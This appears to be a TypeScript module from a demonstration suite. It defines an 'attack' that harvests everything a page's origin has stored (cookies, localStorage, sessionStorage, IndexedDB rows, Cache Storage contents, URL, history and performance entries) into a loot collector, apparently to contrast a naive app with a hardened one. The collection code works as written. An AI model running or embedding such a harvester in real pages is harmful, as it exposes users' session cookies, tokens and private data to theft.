// Reads whatever the origin has stored, and what the page's address and history say.
import type { Attack } from "./attack";
import type { Loot } from "./loot";

export const storage: Attack = {
  id: "storage",
  name: "Read every storage",
  method:
    "localStorage, sessionStorage, cookies, IndexedDB, Cache Storage, and the page's address, history and performance entries.",
  async run({ naive }, loot) {
    await naive.ready();
    const items = readStores(loot) + readPage(loot) + (await readDatabases(loot)) + (await readCaches(loot));
    return {
      strongroom: `${items.toLocaleString("en")} texts read.`,
      naive: "It keeps them there, to survive a reload.",
    };
  },
};

function readStores(loot: Loot): number {
  for (const store of [localStorage, sessionStorage]) {
    const place = store === localStorage ? "localStorage" : "sessionStorage";
    for (const [name, text] of Object.entries(store)) loot.add(`${name} ${text}`, place);
  }
  return localStorage.length + sessionStorage.length;
}

function readPage(loot: Loot): number {
  const texts = [
    document.cookie,
    document.referrer,
    location.href,
    JSON.stringify(history.state),
    window.name,
    ...performance.getEntries().map(({ name }) => name),
  ];
  for (const text of texts) loot.add(text, "the page's address and entries");
  return texts.length;
}

async function readDatabases(loot: Loot): Promise<number> {
  let items = 0;
  for (const { name } of await indexedDB.databases()) {
    if (name === undefined) continue;
    const database = await settled(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      const rows = await settled(database.transaction(store).objectStore(store).getAll());
      loot.add(JSON.stringify(rows), "IndexedDB");
      items += rows.length;
    }
    database.close();
  }
  return items;
}

async function readCaches(loot: Loot): Promise<number> {
  let items = 0;
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      const texts = [request.url, ...[...request.headers].flat(), await (await cache.match(request))?.text()];
      for (const text of texts) loot.add(text ?? "", "Cache Storage");
      items += 1;
    }
  }
  return items;
}

function settled<Result>(request: IDBRequest<Result>): Promise<Result> {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
}
